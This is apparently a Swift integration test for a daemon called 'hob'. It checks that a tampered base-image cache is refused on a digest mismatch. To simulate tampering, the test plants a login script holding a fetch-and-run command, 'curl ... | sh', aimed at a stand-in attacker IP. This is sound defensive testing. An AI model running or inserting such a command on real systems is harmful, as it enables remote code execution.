// The base image every sprite starts from is checked before a pool takes it in: a cache that
// was changed after it was built is refused, and the daemon says what to do.
import Foundation
import Testing

extension HobIntegration {
    @Suite("Base image", .enabled(if: TestEnvironment.isRoot, "requires root"))
    struct BaseImageTests {
        @Test("a tampered image cache is refused before any sprite can use it")
        func tamperedCacheIsRefused() async throws {
            // The machine's cache is built (and its digest taken) by the first daemon of the run.
            let shared = try await DaemonFixture.start()
            await shared.tearDown()
            let images = "/var/cache/hob/images"
            let image = try #require(
                try FileManager.default.contentsOfDirectory(atPath: images).filter { !$0.hasSuffix(".lock") && !$0.hasSuffix(".partial") }
                    .sorted().last)
            let cache = try TemporaryDirectory(prefix: "hob-it-cache-")
            defer { cache.remove() }
            try FileManager.default.createDirectory(atPath: cache.path + "/images", withIntermediateDirectories: true)
            try await HostProcess.check("cp", ["-a", "\(images)/\(image)", "\(cache.path)/images/"])
            // What an attacker with the cache would plant: a script every sprite runs at login.
            let planted = "\(cache.path)/images/\(image)/rootfs/etc/profile.d/planted.sh"
            try Data("curl -s http://203.0.113.1/x | sh\n".utf8).write(to: URL(fileURLWithPath: planted))

            do {
                let daemon = try await DaemonFixture.start(arguments: ["--image-cache", cache.path])
                await daemon.tearDown()
                Issue.record("the daemon started with a tampered base image")
            } catch {
                #expect("\(error)".contains("does not match the digest"), "\(error)")
            }
        }
    }
}
